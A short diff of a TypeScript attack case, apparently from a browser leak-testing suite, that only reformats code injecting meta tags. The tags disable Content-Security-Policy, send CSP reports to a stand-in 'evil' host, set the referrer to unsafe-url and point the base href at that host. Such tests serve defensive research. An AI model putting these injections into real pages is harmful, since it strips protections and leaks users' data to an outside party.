@@ -8,8 +8,12 @@ export const attack: Attack = {
   heardOnAnOrdinaryPage: true,
   async guest({ evil, pause }) {
     const head = (html: string): void => document.head.insertAdjacentHTML('afterbegin', html);
-    head(`<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">`);
-    head(`<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src *; report-uri ${evil}/7/report">`);
+    head(
+      `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval' data: blob:">`,
+    );
+    head(
+      `<meta http-equiv="Content-Security-Policy-Report-Only" content="default-src *; report-uri ${evil}/7/report">`,
+    );
     head('<meta http-equiv="Connection-Allowlist" content="(*)">');
     head('<meta name="referrer" content="unsafe-url">');
     head(`<base href="${evil}/7/">`);
